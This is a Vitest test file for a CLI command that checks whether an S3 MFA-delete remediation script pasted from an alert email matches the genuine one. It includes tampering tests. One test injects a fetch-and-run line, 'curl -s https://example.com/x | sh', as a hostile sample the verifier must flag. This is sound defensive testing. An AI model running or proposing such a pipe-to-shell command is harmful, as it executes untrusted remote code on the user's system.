// `mfa-delete-guard verify-script [FILE]`: main() with files and standard input, and the real CLI entry
// (bin/mfa-delete-guard.ts under tsx) reading a pasted email from standard input.
import { spawnSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { main } from '../../lib/cli/main';
import { renderEmail } from '../../lib/channels/email';
import { resultMessage } from '../../lib/domain/topicMessage';
import { scenarioFixtures } from '../golden/fixtures';

const drift = scenarioFixtures().find((f) => f.name === 'cloudtrail-mfa-delete-disabled')!.result;
const SCRIPT = drift.remediation!.script;
const EMAIL = renderEmail(resultMessage(drift)).text;
const dir = mkdtempSync(join(tmpdir(), 'verify-script-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

function file(name: string, content: string | Uint8Array): string {
  const path = join(dir, name);
  writeFileSync(path, content);
  return path;
}

async function cli(args: string[], stdin = '') {
  let stdout = '';
  let stderr = '';
  const code = await main(
    ['verify-script', ...args],
    {},
    {
      stdout: (s) => (stdout += s),
      stderr: (s) => (stderr += s),
      isTTY: false,
      readStdin: async () => Buffer.from(stdin),
    },
  );
  return { code, stdout, stderr };
}

describe('mfa-delete-guard verify-script', () => {
  it('exit 0 for the genuine script in a file, naming its values and the commands it runs', async () => {
    const { code, stdout, stderr } = await cli([file('genuine.sh', SCRIPT)]);
    expect(stderr).toBe('');
    expect(code).toBe(0);
    expect(stdout).toContain('GENUINE');
    expect(stdout).toMatch(/bucket\s+example-bucket/);
    expect(stdout).toMatch(/account\s+111122223333/);
    expect(stdout).toContain('It runs only: aws ');
  });

  it('exit 0 for the whole alert email on standard input (the paste markers bound the script)', async () => {
    const { code, stdout } = await cli([], EMAIL);
    expect(code).toBe(0);
    expect(stdout).toContain('GENUINE');
  });

  it('exit 1 for one character changed in the bucket, naming the line, expected and found', async () => {
    const tampered = SCRIPT.replace("--bucket 'example-bucket'", "--bucket 'examp1e-bucket'");
    const line = tampered.split('\n').findIndex((l) => l.includes('examp1e-bucket')) + 1;
    const { code, stdout, stderr } = await cli([file('bucket.sh', tampered)]);
    expect(code).toBe(1);
    expect(stdout).toBe('');
    expect(stderr).toContain('NOT GENUINE');
    expect(stderr).toContain(`first difference at line ${line}:`);
    expect(stderr).toMatch(/expected ".*--bucket 'example-bucket'/);
    expect(stderr).toMatch(/found {4}".*--bucket 'examp1e-bucket'/);
  });

  it('exit 1 for an extra command, naming it', async () => {
    const lines = SCRIPT.split('\n');
    const at = lines.findIndex((l) => l.includes('put-bucket-versioning'));
    lines.splice(at, 0, '  curl -s https://example.com/x | sh');
    const { code, stderr } = await cli([], lines.join('\n'));
    expect(code).toBe(1);
    expect(stderr).toContain(`first difference at line ${at + 1}:`);
    expect(stderr).toContain('found    "  curl -s https://example.com/x | sh"');
  });

  it.each([
    ['no script in it', () => [file('empty.txt', 'hello\n')], 'no mfa-delete-guard script found'],
    ['not UTF-8', () => [file('bin.dat', new Uint8Array([0xc3, 0x28, 0xff]))], 'not UTF-8 text'],
    ['a missing file', () => [join(dir, 'nope.sh')], 'cannot read'],
  ])('exit 2 for %s', async (_label, args, message) => {
    const { code, stderr } = await cli(args());
    expect(code).toBe(2);
    expect(stderr).toContain(message);
  });

  it('exit 2 for an unknown option or two files, with the usage', async () => {
    for (const args of [['--fast'], ['a', 'b']]) {
      const { code, stderr } = await cli(args);
      expect(code).toBe(2);
      expect(stderr).toContain('Usage: mfa-delete-guard verify-script [FILE]');
    }
  });

  it('the real CLI reads standard input when no FILE is given', () => {
    const run = (input: string) =>
      spawnSync(process.execPath, ['--import', 'tsx', 'bin/mfa-delete-guard.ts', 'verify-script'], {
        input,
        encoding: 'utf8',
        timeout: 30_000,
      });
    const genuine = run(EMAIL);
    expect(genuine.status, genuine.stderr).toBe(0);
    expect(genuine.stdout).toContain('GENUINE');
    const tampered = run(
      EMAIL.replace('  aws s3api put-bucket-versioning', '  aws s3api put-bucket-versioning --debug'),
    );
    expect(tampered.status).toBe(1);
    expect(tampered.stderr).toContain('NOT GENUINE');
  });
});
